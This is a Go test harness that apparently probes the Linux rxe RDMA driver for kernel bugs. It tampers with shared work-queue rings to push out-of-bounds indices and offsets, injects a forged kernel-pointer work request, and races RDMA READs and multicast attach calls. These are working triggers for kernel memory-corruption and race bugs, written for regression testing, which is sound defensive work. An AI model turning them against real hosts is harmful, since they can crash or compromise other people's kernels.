package main

import (
	"bytes"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"runtime"
	"strings"
	"time"

	"github.com/goverbs/goverbs/uverbs"
	"github.com/goverbs/goverbs/uverbs/ib"
)

// far is an index of an SGE, which have 16 bytes, that is 4 GiB behind the others.
const far = 1 << 28

// attacks are all of them.
var attacks = []attack{
	{name: "send-cur-sge", device: "rxe", run: changedSend(sendDMA+dmaCurSGE, far)},
	{name: "send-num-sge", device: "rxe", run: changedSend(sendDMA+dmaNumSGE, far)},
	{name: "send-resid", device: "rxe", run: changedSend(sendDMA+dmaResid, 1<<20)},
	// A negative index: the table is in a module, behind which addresses wrap around.
	{name: "send-opcode", device: "rxe", run: changedSend(sendOpcode, 0xf800_0000)},
	{name: "send-reg-mr", device: "rxe", run: regMR},
	{name: "inline-offset", device: "rxe", run: inlineOffset},
	{name: "recv-cur-sge", device: "rxe", run: changedReceive(recvDMA+dmaCurSGE, far)},
	{name: "recv-num-sge", device: "rxe", run: changedReceive(recvDMA+dmaNumSGE, far)},
	{name: "srq-cur-sge", device: "rxe", run: changedShared(recvDMA+dmaCurSGE, far)},
	{name: "srq-num-sge", device: "rxe", run: changedShared(recvDMA+dmaNumSGE, far)},
	{name: "read-cur-sge", device: "rxe", run: changedRead},
	{name: "odp-iova", device: "rxe", since: [2]int{6, 15}, run: odpIOVA},
	{name: "advise-pinned", device: "rxe", since: [2]int{6, 15}, run: advisePinned},
	{name: "attach-race", device: "rxe", run: attachRace},
}

// changed posts a SEND whose work request begin makes, after poke has changed it in the ring.
func (s *side) changed(begin func(*uverbs.SendBuilder), poke func(r *ring)) error {
	b := s.qp.BeginSend()
	begin(b)
	b.Send(2, uverbs.SendSignaled) // so the one before it is written to the ring
	b.SGE(s.mr.SGE(0, 8))
	poke(s.sends)
	return b.Post()
}

// changedSend sends with a word of the work request changed.
func changedSend(offset int, value uint32) func(*rig) error {
	return func(r *rig) error {
		a, b, err := r.pair(uverbs.QPOptions{})
		if err != nil {
			return err
		}
		err = errors.Join(b.qp.PostRecv(1, b.mr.SGE(0, 64)), b.qp.PostRecv(2, b.mr.SGE(0, 64)), a.changed(func(s *uverbs.SendBuilder) {
			s.Send(1, uverbs.SendSignaled)
			s.SGE(a.mr.SGE(0, 8))
		}, func(q *ring) { q.word(0, offset).Store(value) }))
		if err != nil {
			return err
		}
		return a.refused()
	}
}

// regMR posts what only the kernel itself may post: a work request that has a pointer of the kernel in it.
func regMR(r *rig) error {
	const regMR = 0x20 // IB_WR_REG_MR
	a, _, err := r.pair(uverbs.QPOptions{})
	if err != nil {
		return err
	}
	err = a.changed(func(s *uverbs.SendBuilder) {
		s.Send(1, uverbs.SendSignaled)
		s.SGE(a.mr.SGE(0, 8))
	}, func(q *ring) {
		q.word(0, sendOpcode).Store(regMR)
		q.word(0, sendUnion+4).Store(0xdead_0000) // the high half of a pointer that is none on any machine
	})
	if err != nil {
		return err
	}
	return a.refused()
}

// inlineOffset sends inline data that begin 2 GiB behind the work request.
func inlineOffset(r *rig) error {
	a, b, err := r.pair(uverbs.QPOptions{MaxInline: 64})
	if err != nil {
		return err
	}
	err = errors.Join(b.qp.PostRecv(1, b.mr.SGE(0, 64)), a.changed(func(s *uverbs.SendBuilder) {
		s.Send(1, uverbs.SendSignaled)
		s.Inline([]byte("12345678"))
	}, func(q *ring) { q.word(0, sendDMA+dmaSGEOffset).Store(0x7fff_fff0) }))
	if err != nil {
		return err
	}
	return a.refused()
}

// changedReceive receives with a word of the receive changed.
func changedReceive(offset int, value uint32) func(*rig) error {
	return func(r *rig) error {
		a, b, err := r.pair(uverbs.QPOptions{})
		if err != nil {
			return err
		}
		if err := b.qp.PostRecv(1, b.mr.SGE(0, 64)); err != nil {
			return err
		}
		b.receives.word(0, offset).Store(value)
		err = a.qp.PostSend(uverbs.SendWR{ID: 1, Opcode: uverbs.WRSend, Flags: uverbs.SendSignaled, SGL: []uverbs.SGE{a.mr.SGE(0, 8)}})
		if err != nil {
			return err
		}
		return b.refused()
	}
}

// changedShared is changedReceive with the second receive of an SRQ, after the first has served a message.
func changedShared(offset int, value uint32) func(*rig) error {
	return func(r *rig) error {
		owner, err := r.side(uverbs.QPOptions{}) // whose PD the SRQ gets
		if err != nil {
			return err
		}
		before, err := mappings()
		if err != nil {
			return err
		}
		srq, err := owner.pd.CreateSRQ(uverbs.SRQOptions{MaxWR: 8, MaxSGE: 1})
		if err != nil {
			return err
		}
		rings, err := newRings(before)
		if err != nil {
			return err
		}
		if len(rings) != 1 {
			return fmt.Errorf("an SRQ has mapped %d queues", len(rings))
		}
		a, b, err := r.pair(uverbs.QPOptions{SRQ: srq})
		if err != nil {
			return err
		}
		wr := uverbs.SendWR{ID: 1, Opcode: uverbs.WRSend, Flags: uverbs.SendSignaled, SGL: []uverbs.SGE{a.mr.SGE(0, 8)}}
		if err := errors.Join(srq.PostRecv(1, b.mr.SGE(0, 64)), a.qp.PostSend(wr)); err != nil { // rxe goes by the QP's PD
			return err
		}
		for _, s := range []*side{a, b} {
			wc, err := s.next()
			if err != nil || wc.Status != uverbs.WCSuccess {
				return errors.Join(err, wc.Err())
			}
		}
		if err := srq.PostRecv(2, b.mr.SGE(0, 64)); err != nil {
			return err
		}
		rings[0].word(1, offset).Store(value)
		if err := a.qp.PostSend(wr); err != nil {
			return err
		}
		return a.refused() // the receive may not complete if the driver cannot read it
	}
}

// changedRead changes RDMA READs in the ring after they were sent and before all of the response is there.
func changedRead(r *rig) error {
	const (
		rounds = 50
		posted = 0 // wqe_state_posted
	)
	r.size = 1 << 20 // so that there are a thousand packets
	for range rounds {
		a, b, err := r.pair(uverbs.QPOptions{})
		if err != nil {
			return err
		}
		done := make(chan struct{})
		go func() {
			defer close(done)
			for a.sends.word(0, sendState).Load() == posted {
				runtime.Gosched()
			}
			a.sends.word(0, sendDMA+dmaCurSGE).Store(far)
		}()
		err = a.qp.PostSend(uverbs.SendWR{ID: 1, Opcode: uverbs.WRRDMARead, Flags: uverbs.SendSignaled,
			RemoteAddr: b.mr.Addr(), RKey: b.mr.RKey(), SGL: []uverbs.SGE{a.mr.SGE(0, r.size)}})
		if err != nil {
			return err
		}
		<-done
		wc, err := a.next()
		if err != nil {
			return err
		}
		if wc.Status == uverbs.WCSuccess {
			continue // all of it was there before
		}
		return errors.Join(a.qp.Close(), b.qp.Close())
	}
	return fmt.Errorf("all %d READs ended before they were changed", rounds)
}

// odpIOVA writes to memory with on-demand paging that is at another address in work requests.
func odpIOVA(r *rig) error {
	a, b, err := r.pair(uverbs.QPOptions{})
	if err != nil {
		return err
	}
	const away = 1 << 40
	mr, err := b.pd.RegMR(b.buf, uverbs.MROptions{Access: rights | uverbs.AccessOnDemand, IOVA: new(uint64(b.mr.Addr() + away))})
	if err != nil {
		return err
	}
	copy(a.buf.Bytes(), "somewhere")
	err = a.qp.PostSend(uverbs.SendWR{ID: 1, Opcode: uverbs.WRRDMAWrite, Flags: uverbs.SendSignaled,
		RemoteAddr: mr.Addr(), RKey: mr.RKey(), SGL: []uverbs.SGE{a.mr.SGE(0, 9)}})
	if err != nil {
		return err
	}
	wc, err := a.next()
	switch {
	case err != nil:
		return err
	case wc.Status != uverbs.WCSuccess:
		return fmt.Errorf("%w: RDMA WRITE: %w", errWrong, wc.Err())
	case string(b.buf.Bytes()[:9]) != "somewhere":
		return fmt.Errorf("%w: RDMA WRITE succeeds, and nothing is written", errWrong)
	}
	return nil
}

// advisePinned has the driver prefetch regions without on-demand paging. If it takes one for a region with
// it, it reads the fields that such a region has besides from the memory behind, where other regions
// are: the first and last address from what is the address and length of the next one. At a low
// address a range lies between the two, so that the driver goes on, to a pointer that is none.
func advisePinned(r *rig) error {
	pd, err := r.dev.AllocPD()
	if err != nil {
		return err
	}
	const low, size = 1 << 17, 1 << 20
	memory, err := mapAt(low, size)
	if err != nil {
		return err
	}
	var all []*uverbs.MR
	for range 64 {
		mr, err := pd.RegSlice(memory, rights)
		if err != nil {
			return err
		}
		all = append(all, mr)
	}
	for _, mr := range all {
		if err := pd.AdviseMR(uverbs.AdvicePrefetch, []uverbs.SGE{mr.SGE(0, 4096)}, uverbs.AdviseOptions{Flush: true}); err == nil {
			return fmt.Errorf("%w: it prefetches a region that is pinned", errWrong)
		}
	}
	return nil
}

// attachTime is how long two processes attach and detach QPs. The bug was met after some hundred to some thousand times.
const attachTime = 10 * time.Second

// attachRace has two processes attach QPs to one multicast group and detach them, side by side. The library of one process
// issues these commands one at a time.
func attachRace(r *rig) error {
	const peer = "KERNELBUGS_PEER" // set to 1 in the second process
	pd, err := r.dev.AllocPD()
	if err != nil {
		return err
	}
	cq, err := r.dev.CreateCQ(uverbs.CQOptions{Size: 8})
	if err != nil {
		return err
	}
	qp, err := pd.CreateQP(uverbs.QPOptions{Type: ib.UD, SendCQ: cq, RecvCQ: cq})
	if err != nil {
		return err
	}
	var said bytes.Buffer
	other := exec.Command("/proc/self/exe", "-attack", "attach-race")
	other.Env, other.Stdout, other.Stderr = append(os.Environ(), peer+"=1"), &said, &said
	first := os.Getenv(peer) == ""
	if first {
		if err := other.Start(); err != nil {
			return err
		}
	}
	for begin := time.Now(); err == nil && time.Since(begin) < attachTime; {
		group := ib.GID{0xff, 0x0e, 15: 1}
		err = errors.Join(qp.AttachMulticast(group, 0), qp.DetachMulticast(group, 0))
	}
	if first {
		if end := other.Wait(); end != nil || strings.Contains(said.String(), wrong) {
			err = errors.Join(err, fmt.Errorf("the second process: %v, %s", end, said.String()))
		}
	}
	if err != nil {
		return fmt.Errorf("%w: %w", errWrong, err)
	}
	return errors.Join(qp.Close(), cq.Close(), pd.Close())
}
